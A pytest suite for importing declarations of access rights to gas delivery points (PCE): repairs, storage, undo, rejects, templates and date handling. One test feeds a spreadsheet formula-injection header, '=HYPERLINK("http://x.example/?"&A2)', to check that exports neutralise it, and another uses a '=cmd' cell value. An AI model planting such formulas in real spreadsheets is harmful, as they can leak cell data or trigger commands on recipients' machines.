"""Files of declarations through their whole life: looked at, mended, stored, taken back."""

import csv
import datetime as dt
import re
from dataclasses import replace
from datetime import date, timedelta
from io import BytesIO, StringIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from sqlalchemy import func, select
from xlsxwriter import Workbook

from core.errors import Conflict, Invalid, NotFound, Unreadable
from data.metering.pces.models import Pce, PceGrant
from data.rights.actions import (
    accept_repairs,
    confirm,
    drop,
    edit_line,
    map_columns,
    undo_import,
)
from data.rights.files import (
    lines_of,
    read,
    write_lines,
    write_rejects,
    write_template,
    writer,
)
from data.rights.models import (
    AccessRight,
    HolderLink,
    ImportLine,
    RightEventRow,
    RightLetterRow,
)
from data.rights.queries import (
    get_rejected_lines,
    iter_imported_lines,
    list_imports,
    list_lines,
    list_template_rows,
)
from data.rights.rules.columns import LABELS, guess
from data.rights.rules.expected_values import BOTH_WAYS
from data.rights.types import (
    Depends,
    EarlierImport,
    EndSource,
    ImportPlan,
    Lines,
    LineState,
    Purpose,
    Rejects,
    Repair,
    RightRole,
    RightState,
    TemplateContents,
    UndoResult,
    UndoState,
)
from data.runs.files.book import sheets
from data.runs.types import RunState
from jobs import runs as job
from tests.data.rights import dirty
from tests.data.rights.desk import DELAYS, Desk
from tests.factories import NOW, make_pce, make_people, make_right
from tests.queue_work import work_runs

ALL = frozenset(Repair)


def adds_up(counts):
    parts = counts.accepted + counts.known + counts.rejected + counts.waiting
    return counts.lines == parts


CORPUS = dirty.corpus()


def test_the_corpus_is_wide():
    assert len(CORPUS) >= 60
    assert len({one.name for one in CORPUS}) == len(CORPUS)
    assert {repair for one in CORPUS for repair in one.repairs} == set(Repair)


@pytest.mark.alike
@pytest.mark.sampled
@pytest.mark.parametrize("file", CORPUS, ids=lambda one: one.name)
@pytest.mark.sampled
def test_nothing_is_mended_unasked_and_one_word_mends_all(desk, file):
    run = desk.deposit(file.name, file.content)
    before = desk.preview(run)
    fine = dirty.LINES - file.spoilt - file.lost
    assert adds_up(before.counts)
    assert (before.counts.accepted, before.counts.waiting, before.counts.rejected) == (
        fine, file.spoilt, file.lost,
    )  # fmt: skip
    proposed = {one.repair for group in before.groups for one in group.lines if one.repair}
    assert proposed == file.repairs
    desk.act(accept_repairs, run, ALL)
    after = desk.preview(run)
    assert (after.counts.accepted, after.counts.waiting) == (fine + file.spoilt, 0)
    told = desk.store(run)
    assert adds_up(told.counts)
    assert told.state is RunState.DONE
    assert told.counts == after.counts
    numbers = {right.number for right in desk.rights()}
    spoilt = {dirty.number(at) for at in range(file.lost)}
    assert numbers == {dirty.number(at) for at in range(dirty.LINES)} - spoilt
    for right in desk.rights():
        said = file.doubtful if right.number < dirty.number(dirty.DIRTY) else {}
        assert right.state is (RightState.RECHECK if said else RightState.PENDING)
        assert right.postal_code == said.get(dirty.POSTAL, "09123")
        assert right.company == said.get(dirty.COMPANY, "Lycée des Tilleuls")
        assert right.email == "alice@tilleuls.example"
        assert str(right.starts_on) == "2026-09-01"
        mended = right.number < dirty.number(dirty.DIRTY) and file.read
        ends = file.read.get(dirty.ENDS, "2028-08-31") if mended else "2028-08-31"
        assert str(right.ends_on) == ends
        assert right.technical is not (mended and dirty.TECHNICAL in file.read)


@pytest.mark.alike
@pytest.mark.sampled
@pytest.mark.parametrize("file", [one for one in CORPUS if one.repairs], ids=lambda one: one.name)
@pytest.mark.sampled
def test_what_nobody_accepted_is_left_out_and_said(desk, file):
    run = desk.deposit(file.name, file.content)
    told = desk.store(run)
    assert told.counts.accepted == dirty.LINES - file.spoilt
    assert told.counts.rejected == file.spoilt
    assert adds_up(told.counts)
    said = [one for group in told.groups for one in group.lines]
    assert {one.repair for one in said} == file.repairs
    assert all(one.line and one.column and one.code for one in said)


@pytest.mark.dialect
def test_the_same_file_twice_changes_nothing_and_says_so(desk):
    content = dirty.to_csv(dirty.rows())
    first = desk.deposit("a.csv", content)
    desk.store(first)
    kept = [(right.uid, right.state) for right in desk.rights()]
    again = desk.deposit("b.csv", content)
    seen = desk.preview(again)
    assert seen.before == EarlierImport(first, None)
    assert (seen.counts.known, seen.counts.accepted) == (dirty.LINES, 0)
    told = desk.store(again)
    assert told.counts.known == dirty.LINES
    assert [(right.uid, right.state) for right in desk.rights()] == kept
    with desk.database.reading() as db:
        lines = db.execute(select(ImportLine.uid).where(ImportLine.run_id == again)).scalars()
        assert set(lines) == {uid for uid, _ in kept}


def test_a_pce_twice_keeps_its_first_line(desk):
    rows = dirty.rows()
    rows[1] = {**rows[0], "libelle_site": "Autre nom"}
    rows[2] = dict(rows[0])
    run = desk.deposit("a.csv", dirty.to_csv(rows))
    told = desk.store(run)
    assert (told.counts.accepted, told.counts.rejected, told.counts.known) == (4, 1, 1)
    (group,) = told.groups
    assert (group.code, group.lines[0].line, group.params) == ("9000000021", 3, {"line": 2})


@pytest.mark.dialect
def test_an_import_killed_half_way_is_taken_up_where_it_was(desk, monkeypatch):
    monkeypatch.setattr("jobs.imports.BLOCK", 2)
    run = desk.deposit("a.csv", dirty.to_csv(dirty.rows(lambda row: row.update(code_postal="1"))))
    desk.preview(run)
    desk.act(confirm, run, now=NOW)
    stored = job.imports.store_lines
    calls = []

    def dies(*args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise SystemExit
        return stored(*args, **kwargs)

    monkeypatch.setattr("jobs.imports.store_lines", dies)
    with pytest.raises(SystemExit):
        work_runs(desk.database, desk.var, NOW)
    half = desk.receipt(run).counts
    assert (half.lines, half.rejected, half.waiting) == (dirty.LINES, 2, 4)
    assert adds_up(half)
    monkeypatch.setattr("jobs.imports.store_lines", stored)
    work_runs(desk.database, desk.var, NOW + timedelta(minutes=2))
    told = desk.receipt(run)
    assert told.state is RunState.DONE
    assert (told.counts.accepted, told.counts.rejected) == (3, 3)
    assert len(desk.rights()) == 3


@pytest.mark.dialect
def test_a_long_file_is_read_beside_the_job_and_stored_turn_by_turn(desk, monkeypatch):
    monkeypatch.setattr("jobs.imports.BLOCK", 2)
    monkeypatch.setattr("jobs.run_reader.INLINE", 0)
    monkeypatch.setattr("jobs.time_slices.SLICE", 0)
    runs = [desk.deposit(name, dirty.to_csv(dirty.rows())) for name in ("a.csv", "b.csv")]
    for run in runs:
        desk.preview(run)
        desk.act(confirm, run, now=NOW)
    assert work_runs(desk.database, desk.var, NOW) == len(runs)
    told = [desk.receipt(run) for run in runs]
    assert [one.state for one in told] == [RunState.DONE, RunState.DONE]
    assert told[0].counts.accepted + told[1].counts.known >= dirty.LINES
    assert all(adds_up(one.counts) for one in told)


TABLES = (AccessRight, RightEventRow, RightLetterRow, HolderLink, PceGrant)


def snapshot(database):
    with database.reading() as db:
        return {table: db.scalar(select(func.count()).select_from(table)) for table in TABLES}


@pytest.mark.dialect
def test_an_import_undone_leaves_the_tables_as_they_were(desk):
    before = snapshot(desk.database)
    run = desk.deposit("a.csv", dirty.to_csv(dirty.rows()))
    stored = desk.store(run)
    with desk.database.reading() as db:
        leaves = db.scalar(select(func.min(RightLetterRow.next_attempt_at)))
    assert stored.undo == UndoState(may=True, until=leaves)
    assert leaves > NOW
    assert desk.act(undo_import, run, now=NOW) == UndoResult(dirty.LINES, 0)
    assert snapshot(desk.database) == before
    told = desk.receipt(run)
    assert told.undone_at == NOW
    assert told.undo == UndoState()
    assert told.counts.accepted == dirty.LINES
    with pytest.raises(Conflict, match="déjà annulé"):
        desk.act(undo_import, run, now=NOW)


@pytest.mark.dialect
def test_an_import_whose_holders_were_asked_is_not_undone(desk):
    run = desk.deposit("a.csv", dirty.to_csv(dirty.rows()))
    desk.store(run)
    with desk.database.transaction() as db:
        db.execute(RightLetterRow.__table__.update().values(attempts=1))
    assert desk.receipt(run).undo == UndoState(why=Depends.LETTER)
    with pytest.raises(Conflict):
        desk.act(undo_import, run, now=NOW)
    assert desk.receipt(run).undone_at is None


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"proof_state": "awaited"}, Depends.PROOF),
        ({"renews_id": 1}, Depends.RENEWAL),
    ],
)
def test_a_receipt_says_what_an_import_can_no_more_be_undone_for(desk, changes, why):
    run = desk.deposit("a.csv", dirty.to_csv(dirty.rows()))
    desk.store(run)
    with desk.database.transaction() as db:
        one = db.scalars(select(AccessRight).order_by(AccessRight.id.desc()).limit(1)).one()
        first = db.scalar(select(func.min(AccessRight.id)))
        for name, value in changes.items():
            setattr(one, name, first if name == "renews_id" else value)
    assert desk.receipt(run).undo == UndoState(why=why)


@pytest.mark.parametrize("as_xlsx", [True, False])
def test_rejected_lines_come_back_as_a_file_and_are_deposited_again(desk, as_xlsx):
    rows = dirty.rows(lambda row: row.update(id_pce=row["id_pce"][1:]))
    rows[3]["courriel_titulaire"] = "=cmd"
    run = desk.deposit("a.csv", dirty.to_csv(rows))
    desk.store(run)
    with desk.database.reading() as db:
        content = write_rejects(get_rejected_lines(db, desk.viewer, run), as_xlsx=as_xlsx)
    again = desk.deposit("rejets", content)
    seen = desk.preview(again)
    assert seen.counts.lines == 4
    assert (seen.counts.waiting, seen.counts.rejected) == (3, 1)
    assert [one.label for one in seen.columns][-1] == "Motif"
    assert seen.columns[-1].field == ""
    desk.act(accept_repairs, again, {Repair.PCE_ZERO})
    bad = next(one for group in seen.groups if not group.repair for one in group.lines)
    assert bad.column == "G, Courriel du titulaire"
    desk.act(edit_line, again, bad.line, field=bad.field, text="alice@tilleuls.example")
    assert desk.store(again).counts.accepted == 4
    assert len(desk.rights()) == dirty.LINES


@pytest.mark.parametrize("as_xlsx", [True, False])
def test_a_header_that_a_spreadsheet_would_work_out_is_guarded_as_cells_are(as_xlsx):
    label = '=HYPERLINK("http://x.example/?"&A2)'
    content = write_rejects(Rejects((label, "PCE"), as_xlsx, ()), as_xlsx=as_xlsx)
    assert read_header(content, as_xlsx=as_xlsx) == [f"'{label}", "PCE", "Motif"]


def read_header(content, *, as_xlsx):
    if as_xlsx:
        return sheets(content)[0][0]
    return next(csv.reader(StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_columns_are_said_once_and_guessed_afterwards(desk):
    odd = [f"Col {at}" for at in range(len(dirty.LABELS))]
    content = dirty.to_csv(dirty.rows(), header=odd)
    run = desk.deposit("a.csv", content)
    seen = desk.preview(run)
    assert set(seen.missing) >= {"id_pce", "code_postal"}
    with pytest.raises(Invalid):
        desk.act(confirm, run, now=NOW)
    places = {name: at for at, name in enumerate(dirty.LABELS)}
    with pytest.raises(Invalid):
        desk.act(map_columns, run, {"id_pce": 0, "code_postal": 0})
    with pytest.raises(Invalid):
        desk.act(map_columns, run, {"id_pce": 99})
    desk.act(map_columns, run, places)
    assert desk.preview(run).counts.accepted == dirty.LINES
    again = desk.preview(desk.deposit("b.csv", content))
    assert again.plan.columns == places


def test_a_usual_value_stands_for_a_column_that_is_not_there(desk):
    rows = dirty.rows()
    kept = [name for name in dirty.LABELS if name != "date_fin_droit_acces"]
    head = ";".join(dirty.LABELS[name] for name in kept)
    lines = [";".join(str(row[name]) for name in kept) for row in rows]
    run = desk.deposit("a.csv", "\n".join([head, *lines]).encode())
    seen = desk.preview(run)
    assert seen.missing == ("date_fin_droit_acces",)
    usual = {"date_fin_droit_acces": "31/08/2028"}
    desk.act(map_columns, run, seen.plan.columns, usual=usual)
    assert desk.preview(run).counts.accepted == dirty.LINES


def test_ones_own_pce_are_declared_as_their_holder(desk):
    head = "PCE;Code postal;Raison sociale"
    lines = [f"{dirty.number(at)};09123;Lycée des Tilleuls" for at in range(dirty.LINES)]
    run = desk.deposit("a.csv", "\n".join([head, *lines]).encode(), Purpose.HOLDINGS)
    assert desk.preview(run).missing == ()
    told = desk.store(run)
    assert told.counts.accepted == dirty.LINES
    assert {right.role.value for right in desk.rights()} == {"holder_supply"}
    # bob's organisation does not bear the contract's name: the distributor looks at each.
    assert {right.state.value for right in desk.rights()} == {"recheck"}


def test_a_draft_given_up_does_nothing(desk):
    run = desk.deposit("a.csv", dirty.to_csv(dirty.rows()))
    desk.act(drop, run, now=NOW)
    work_runs(desk.database, desk.var, NOW)
    assert desk.rights() == []
    for action in (confirm, drop):
        with pytest.raises(Conflict):
            desk.act(action, run, now=NOW)


@pytest.mark.dialect
def test_a_draft_given_up_elsewhere_is_said_to_be(desk):
    run = desk.deposit("a.csv", dirty.to_csv(dirty.rows()))
    desk.act(drop, run, now=NOW)
    with pytest.raises(Conflict, match="Ce fichier a été abandonné"):
        desk.act(confirm, run, now=NOW)


def american(*days, **more):
    """A file that gives its starts, its ends and the first days of its data so, a line each."""
    rows = dirty.rows()[: len(days)]
    names = (dirty.STARTS, dirty.ENDS, "perim_donnees_conso_debut")
    for row, texts in zip(rows, days, strict=True):
        row |= dict(zip(names, texts, strict=True))
        row[dirty.DATA_ENDS] = more.get("ends", "2028-08-31")
    return dirty.to_csv(rows)


def fixes(desk, run, repair=Repair.DATE_MONTH):
    lines = [one for group in desk.preview(run).groups for one in group.lines]
    return [(one.field, one.cell_text, one.expected) for one in lines if one.repair is repair]


def test_a_month_first_asks_about_every_date_that_may_be_so_too(desk):
    """Half of them only were mended: the others were declared with their day first."""
    run = desk.deposit("us.csv", american(("02/03/2026", "08/31/2028", "01/02/2024")))
    assert fixes(desk, run, Repair.DATE_ORDER) == [(dirty.ENDS, "08/31/2028", "2028-08-31")]
    assert fixes(desk, run) == [
        (dirty.STARTS, "02/03/2026", "2026-02-03"),
        ("perim_donnees_conso_debut", "01/02/2024", "2024-01-02"),
    ]
    desk.act(accept_repairs, run, {Repair.DATE_ORDER})
    assert desk.preview(run).counts.accepted == 0  # never without a word on the others
    desk.act(accept_repairs, run, {Repair.DATE_ORDER, Repair.DATE_MONTH})
    desk.store(run)
    (right,) = desk.rights()
    told = (right.starts_on, right.ends_on, right.supply_first)
    assert told == (date(2026, 2, 3), date(2028, 8, 31), date(2024, 1, 2))


def test_a_day_that_is_said_here_is_asked_about_no_more(desk):
    run = desk.deposit("us.csv", american(("02/03/2026", "08/31/2028", "2024-01-02")))
    desk.act(edit_line, run, 2, field=dirty.STARTS, text="02/03/2026")
    assert fixes(desk, run) == []
    desk.act(accept_repairs, run, {Repair.DATE_ORDER})
    desk.store(run)
    assert [right.starts_on for right in desk.rights()] == [date(2026, 3, 2)]


def test_a_column_that_has_both_orders_is_asked_for_a_third(desk):
    days = [("02/03/2026", "2028-08-31", "2024-01-02")] * 3
    days[1] = ("25/03/2026", *days[1][1:])
    days[2] = ("03/25/2026", *days[2][1:])
    run = desk.deposit("both.csv", american(*days))
    assert fixes(desk, run) == []
    (group,) = [one for one in desk.preview(run).groups if one.code == BOTH_WAYS]
    assert (group.count, group.lines[0].cell_text) == (1, "02/03/2026")
    desk.act(edit_line, run, 4, field=dirty.STARTS, text="2026-03-25")  # it was a slip
    assert desk.preview(run).counts.accepted == 3


def test_a_column_that_proves_its_order_is_left_alone(desk):
    days = [("02/03/2026", "08/31/2028", "2024-01-02"), ("25/03/2026", "08/31/2028", "2024-01-02")]
    run = desk.deposit("two.csv", american(*days))
    assert fixes(desk, run) == []


def test_a_draft_waits_for_its_owner(desk):
    desk.deposit("a.csv", dirty.to_csv(dirty.rows()))
    assert work_runs(desk.database, desk.var, NOW) == 0
    assert desk.rights() == []


def test_another_organisation_sees_nothing_of_it(desk, database, charlie, tmp_path):
    run = desk.deposit("a.csv", dirty.to_csv(dirty.rows()))
    other = Desk(database, tmp_path, charlie)
    for act in (
        lambda: other.preview(run),
        lambda: other.receipt(run),
        lambda: other.act(confirm, run, now=NOW),
        lambda: other.act(accept_repairs, run, ALL),
        lambda: other.act(undo_import, run, now=NOW),
    ):
        with pytest.raises(NotFound):
            act()
    with database.reading() as db:
        assert list_imports(db, charlie) == []
        assert len(list_imports(db, desk.viewer)) == 1


@pytest.mark.parametrize(
    "content",
    [b" ", b"%PDF-1.7", b"PCE;Code postal\n", b"\xff\xfeP\0", b"PK\x03\x04oops", b"<html>"],
)
def test_what_is_no_table_is_said_at_once(desk, content):
    with pytest.raises((Unreadable, Invalid)):
        desk.deposit("a.csv", content)
    with desk.database.reading() as db:
        assert list_imports(db, desk.viewer) == []


SHEETS = ("PCE", "Code postal", "Raison sociale", "Courriel", "Début du droit", "Fin du droit")


def book(**sheets):
    """By name, how many lines a sheet of declarations has; none below its header for 0."""
    target = BytesIO()
    with Workbook(target, {"in_memory": True}) as made:
        for name, (head, lines) in sheets.items():
            sheet = made.add_worksheet(name)
            sheet.write_row(0, 0, head)
            for at in range(lines):
                sheet.write_row(at + 1, 0, [dirty.number(at), "09123", *["x"] * (len(head) - 2)])
    return target.getvalue()


@pytest.mark.parametrize("order", [("Vide", "Droits"), ("Droits", "Vide")])
def test_the_sheet_that_has_lines_is_read(desk, order):
    lines = {"Vide": (SHEETS, 0), "Droits": (SHEETS, 3)}
    run = desk.deposit("a.xlsx", book(**{name: lines[name] for name in order}))
    assert desk.preview(run).counts.lines == 3


def test_a_list_of_sites_beside_does_not_stop_the_file(desk):
    run = desk.deposit("a.xlsx", book(Sites=(SHEETS[:2], 9), Droits=(SHEETS, 3), Notes=(("x",), 1)))
    assert desk.preview(run).counts.lines == 3


def test_no_sheet_of_declarations_is_dropped_in_silence(desk):
    content = book(Nord=(SHEETS, 2), Vide=(SHEETS, 0), Sud=(SHEETS[:5], 3))
    with pytest.raises(Unreadable) as refused:
        desk.deposit("a.xlsx", content)
    assert refused.value.params["sheets"] == "«\u00a0Nord\u00a0», «\u00a0Sud\u00a0»"


@pytest.mark.parametrize(
    "cell",
    [
        "<f>A1</f>",
        "<f>A1</f><v></v>",
        "<f>A1</f><v/>",
        '<f t="shared" si="0"/>',
    ],
)
def test_a_formula_without_a_value_says_so(desk, cell):
    content = valueless(dirty.to_xlsx(dirty.rows(), formula={dirty.MAIL: "=A1"}), cell)
    run = desk.deposit("a.xlsx", content)
    seen = desk.preview(run)
    (group,) = [group for group in seen.groups if not group.repair]
    assert (group.count, seen.counts.waiting) == (dirty.DIRTY, 0)
    assert group.sentence.startswith("Cette cellule est une formule sans valeur")
    assert "adresse" not in group.sentence
    one = group.lines[0]
    desk.act(edit_line, run, one.line, field=one.field, text="alice@tilleuls.example")
    assert desk.preview(run).counts.rejected == dirty.DIRTY - 1


def test_a_formula_whose_value_is_an_empty_text_has_one(desk):
    content = dirty.to_xlsx(dirty.rows(), formula={dirty.PHONE: "=A1"})
    run = desk.deposit("a.xlsx", valueless(content, "<f>A1</f><v></v>", kind="str"))
    assert desk.preview(run).counts.waiting == dirty.DIRTY


def valueless(content, cell, kind=""):
    """The formulas of *content* as a program leaves them that works nothing out."""
    target = BytesIO()
    kind = f' t="{kind}"' if kind else ""
    with ZipFile(BytesIO(content)) as source, ZipFile(target, "w", ZIP_DEFLATED) as made:
        for name in source.namelist():
            part = source.read(name).decode()
            if name.endswith("sheet1.xml"):
                part = re.sub(r'(<c r="\w+")[^>]*><f>.*?</c>', rf"\1{kind}>{cell}</c>", part)
            made.writestr(name, part)
    return target.getvalue()


@pytest.mark.parametrize("as_xlsx", [True, False])
def test_the_template_is_read_back(desk, database, alice, as_xlsx):
    with database.transaction() as db:
        make_pce(db, "09999999920001", alias="Gymnase", holder_id=1)
    with database.reading() as db:
        rows = list_template_rows(db, alice)
    assert {"id_pce": "09999999920001", "libelle_site": "Gymnase"}.items() <= rows[-1].items()
    full = [{**dirty.GOOD, **row, "code_postal": "09123"} for row in rows]
    run = desk.deposit("modele", write_template(full, as_xlsx=as_xlsx))
    seen = desk.preview(run)
    assert seen.missing == ()
    assert seen.counts.lines == len(rows)
    with pytest.raises(Unreadable):
        desk.deposit("modele", write_template(as_xlsx=as_xlsx))


@pytest.mark.parametrize("purpose", Purpose)
def test_the_template_of_one_s_own_pces_is_deposited_as_it_is(database, tmp_path, alice, purpose):
    """Its holder is the organisation: the contract's name, else its own, and the holder's role."""
    alice = replace(alice, organisation="Organisation de alice")
    with database.transaction() as db:
        make_people(db)
        make_pce(db, "09999999920001", holder_id=1)
        make_pce(db, "09999999920002", holder_id=1, holder_name="Lycée des Tilleuls")
    with database.reading() as db:
        rows = list_template_rows(db, alice, TemplateContents.WITHOUT)
    assert [row["raison_sociale"] for row in rows] == [
        "Organisation de alice", "Lycée des Tilleuls",
    ]  # fmt: skip
    own = Desk(database, tmp_path, alice)
    run = own.deposit("modele.csv", write_template(rows, as_xlsx=False), purpose)
    seen = own.preview(run)
    assert (seen.missing, seen.counts.accepted) == ((), 2)


def test_one_s_own_pces_need_no_name_of_their_holder(database, tmp_path, alice):
    alice = replace(alice, organisation="Organisation de alice")
    with database.transaction() as db:
        make_people(db)
        make_pce(db, "09999999920001", holder_id=1)
    content = b"PCE;Code postal\r\n09999999920001;99123\r\n"
    own = Desk(database, tmp_path, alice)
    seen = own.preview(own.deposit("a.csv", content, Purpose.HOLDINGS))
    assert (seen.missing, seen.counts.accepted) == ((), 1)
    other = own.preview(own.deposit("b.csv", content, Purpose.RIGHTS))
    assert "raison_sociale" in other.missing
    own.store(own.deposit("c.csv", content, Purpose.HOLDINGS))
    (right,) = own.rights()
    assert (right.company, right.role) == ("Organisation de alice", RightRole.HOLDER_SUPPLY)


def test_a_pce_that_won_and_lost_a_zero_is_never_another_pce(desk):
    """As programs write a column of numbers: without its first zero, with a decimal one."""
    bare = dirty.rows(lambda row: row.update(id_pce=row["id_pce"][1:] + ".0"))
    run = desk.deposit("a.csv", dirty.to_csv(bare))
    seen = desk.preview(run)
    (group,) = seen.groups
    assert (group.repair, group.count) == (Repair.PCE_SIGNS, dirty.DIRTY)
    assert group.lines[0].expected == dirty.number(0)


@pytest.mark.parametrize("as_xlsx", [True, False])
def test_the_examples_of_the_template_show_how_to_write_and_are_never_read(as_xlsx):
    table = read(write_template([{"id_pce": "x"}], as_xlsx=as_xlsx), {})
    shown = write_template(as_xlsx=as_xlsx)
    with pytest.raises(Unreadable, match="aucune ligne"):
        read(shown, {})
    for told in (*writer._EXAMPLES, writer._OWN):
        right = {**told, "id_pce": told["id_pce"].removeprefix("Exemple : ")}
        mine = read(write_template([told, right], as_xlsx=as_xlsx), {})
        plan = ImportPlan(columns=guess(mine.header, {}), repairs=frozenset())
        [line] = lines_of(mine, plan, date(2026, 11, 24), DELAYS)
        assert line.problems == ()
        assert line.waits == ()
    assert len(table.rows) == 1
    own = write_template(as_xlsx=as_xlsx, purpose=Purpose.HOLDINGS)
    with pytest.raises(Unreadable, match="aucune ligne"):
        read(own, {})


@pytest.mark.parametrize(
    ("header", "field"),
    [
        ("Fin droit", "date_fin_droit_acces"),
        ("Date fin", None),
        ("Date début droits", "date_debut_droit_acces"),
        ("Mail du titulaire", "courriel_titulaire"),
        ("Adresse mail", "courriel_titulaire"),
        ("E-mail du client", "courriel_titulaire"),
        ("Tél. titulaire", "numero_telephone_mobile_titulaire"),
        ("CP site", "code_postal"),
        ("Début données consommations", "perim_donnees_conso_debut"),
        ("Nom client", "nom_titulaire"),
        ("N° de PCE", "id_pce"),
        ("Fin", None),
        ("Titre", None),
        ("Note", None),
    ],
)
def test_a_header_is_known_in_the_words_people_use(header, field):
    assert guess([header], {}) == ({field: 0} if field else {})


def test_every_label_is_told_from_the_others():
    labels = list(LABELS.values())
    assert guess(labels, {}) == {name: place for place, name in enumerate(LABELS)}


def test_lines_say_their_state(desk):
    run = desk.deposit("a.csv", dirty.to_csv(dirty.rows()))
    desk.store(run)
    with desk.database.reading() as db:
        states = set(db.scalars(select(ImportLine.state).where(ImportLine.run_id == run)))
    assert states == {LineState.ACCEPTED}


def test_a_day_of_a_sheet_is_shown_as_a_day_and_a_text_as_it_is(desk):
    rows = dirty.rows()
    rows[0][dirty.DATA_ENDS] = dt.date(2028, 9, 30)
    rows[1][dirty.MAIL] = dt.date(2026, 9, 1)
    rows[2][dirty.STARTS] = dt.datetime(2026, 9, 1, 10, 30)  # noqa: DTZ001 (of a sheet)
    rows[3][dirty.DATA_ENDS] = "2028-09-30"
    rows[4][dirty.STARTS] = "2026-13-01"
    run = desk.deposit("a.xlsx", dirty.to_xlsx(rows))
    seen = desk.preview(run)
    found = {(one.line, one.field): one for group in seen.groups for one in group.lines}
    assert found[2, dirty.DATA_ENDS].cell_text == "30/09/2028"
    mail = found[3, dirty.MAIL]
    assert (mail.cell_text, mail.params.get("found", "01/09/2026")) == ("01/09/2026", "01/09/2026")
    assert found[4, dirty.STARTS].cell_text == "01/09/2026 10:30"
    assert found[5, dirty.DATA_ENDS].cell_text == "2028-09-30"
    assert found[6, dirty.STARTS].cell_text == "2026-13-01"
    (ends,) = [one for one in seen.columns if one.field == dirty.DATA_ENDS]
    assert ends.sample == ("30/09/2028", "2028-08-31", "2028-09-30")
    desk.act(edit_line, run, 3, field=dirty.MAIL, text="2026-09-01")  # written here: as it is
    again = {
        (one.line, one.field): one for group in desk.preview(run).groups for one in group.lines
    }
    assert again[3, dirty.MAIL].cell_text == "2026-09-01"


@pytest.mark.parametrize("as_xlsx", [True, False])
def test_each_line_is_named_and_what_was_changed_is_kept(desk, as_xlsx):
    rows = dirty.rows()
    rows[0]["id_pce"] = rows[0]["id_pce"][1:]
    rows[1]["courriel_titulaire"] = "personne"
    rows[2]["code_postal"] = "9123"
    run = desk.deposit("a.csv", dirty.to_csv(rows))
    desk.act(accept_repairs, run, {Repair.PCE_ZERO})
    desk.act(edit_line, run, 3, field="courriel_titulaire", text="gaz@tilleuls.example")
    desk.store(run)
    with desk.database.reading(streams=True) as db:
        told = list_lines(db, desk.viewer, run)
        changed = list_lines(db, desk.viewer, run, Lines.CHANGED)
        rejected = list_lines(db, desk.viewer, run, Lines.REJECTED)
        content = write_lines(iter_imported_lines(db, desk.viewer, run), as_xlsx=as_xlsx)
    assert [one.line for one in told] == list(range(2, 2 + dirty.LINES))
    assert told[0].number == dirty.number(0)
    made = [(one.cell_text, one.expected, one.repair) for line in told[:2] for one in line.problems]
    assert made == [
        (dirty.number(0)[1:], dirty.number(0), Repair.PCE_ZERO),
        ("personne", "gaz@tilleuls.example", None),
    ]
    assert [one.line for one in changed] == [2, 3]
    assert [(one.line, one.problems[0].cell_text) for one in rejected] == [(4, "9123")]
    assert told[3].problems == ()
    receipt = desk.receipt(run)
    assert receipt.changed == 2
    assert receipt.counts.rejected == 1
    if not as_xlsx:
        lines = content.decode("utf-8-sig").splitlines()
        assert len(lines) == 1 + dirty.LINES
        head = "Ligne;PCE;Issue;Colonne;Trouvé;Attendu, ou retenu;Motif;Code;Identifiant du droit"
        assert lines[0] == head
        assert lines[3].startswith(f"4;{dirty.number(2)};Rejetée;")
        assert ";9123;09123;" in lines[3]
        assert lines[3].endswith(";9000000024;")
        uid = next(one.uid for one in desk.rights() if one.number == dirty.number(3))
        assert told[3].uid == uid
        assert lines[4].split(";")[2] == "À valider"
        assert lines[4].endswith(f";0000000002;{uid}")


def test_the_template_is_filled_with_what_is_known_of_the_pces_one_asks_for(desk):
    def change(row):
        row["courriel_titulaire"] = "gaz@tilleuls.example"
        row["date_fin_droit_acces"] = row["perim_donnees_conso_fin"] = "31/08/2027"

    desk.store(desk.deposit("a.csv", dirty.to_csv(dirty.rows(change))))
    with desk.database.transaction() as db:
        rights = db.scalars(select(AccessRight).order_by(AccessRight.number)).all()
        states = (RightState.ACTIVE, RightState.ACTIVE, RightState.OBSOLETE, RightState.REVOKED)
        for right, state in zip(rights, states, strict=False):
            right.state = state
        rights[1].ends_on = rights[1].ends_key = date(2026, 12, 24)
        rights[3].source = EndSource.MOVE
    with desk.database.reading() as db:
        rows = {
            which: {row["id_pce"]: row for row in list_template_rows(db, desk.viewer, which)}
            for which in TemplateContents
        }
    numbers = [dirty.number(at) for at in range(dirty.LINES)]
    assert set(rows[TemplateContents.ALL]) >= set(numbers)
    assert set(rows[TemplateContents.ENDING]) == {numbers[1]}
    assert set(rows[TemplateContents.WITHOUT]) & set(numbers) == set(numbers[2:4])
    first, over, moved = (rows[TemplateContents.ALL][numbers[at]] for at in (0, 2, 3))
    assert first["raison_sociale"] == "Lycée des Tilleuls"
    assert first["courriel_titulaire"] == "gaz@tilleuls.example"
    assert (first["date_fin_droit_acces"], first["role_tiers"]) == (
        "31/08/2027", "AUTORISE_CONTRAT_FOURNITURE",
    )  # fmt: skip
    assert over["courriel_titulaire"] == "gaz@tilleuls.example"
    assert over["date_fin_droit_acces"] == over["perim_donnees_conso_fin"] == ""
    assert over["perim_donnees_conso_debut"]
    assert "courriel_titulaire" not in moved
    told = read(write_template(rows[TemplateContents.ALL].values(), as_xlsx=True), {})
    assert len(told.rows) == len(rows[TemplateContents.ALL])


def test_the_choices_of_a_template_go_to_its_last_line():
    rows = [{"id_pce": str(at)} for at in range(1138)]
    with ZipFile(BytesIO(write_template(rows, as_xlsx=True))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert set(re.findall(r'sqref="[A-Z]+3:[A-Z]+(\d+)"', sheet)) == {"1140"}


def ending(db, viewer, days):
    """Rights on every PCE of the files, that end so many days after today."""
    for at in range(dirty.LINES):
        pce = db.scalars(select(Pce).where(Pce.number == dirty.number(at))).one()
        ends = viewer.today + timedelta(days=days)
        make_right(db, pce, viewer.organisation_id, ends_on=ends, ends_key=ends)


@pytest.mark.parametrize(("days", "renewed"), [(0, True), (60, True), (61, False)])
def test_a_file_renews_the_rights_that_end_soon(desk, days, renewed):
    with desk.database.transaction() as db:
        ending(db, desk.viewer, days)
    run = desk.deposit("droits.csv", dirty.to_csv(dirty.rows()))
    seen = desk.preview(run).counts
    counts = desk.store(run).counts
    done = dirty.LINES if renewed else 0
    assert (counts.accepted, counts.rejected) == (done, dirty.LINES - done)
    assert (seen.accepted, seen.rejected) == (counts.accepted, counts.rejected)
    old = [right.id for right in desk.rights() if right.run_id is None]
    assert sorted(right.renews_id for right in desk.rights() if right.run_id) == old[:done]
    if renewed:
        desk.act(undo_import, run, now=NOW)
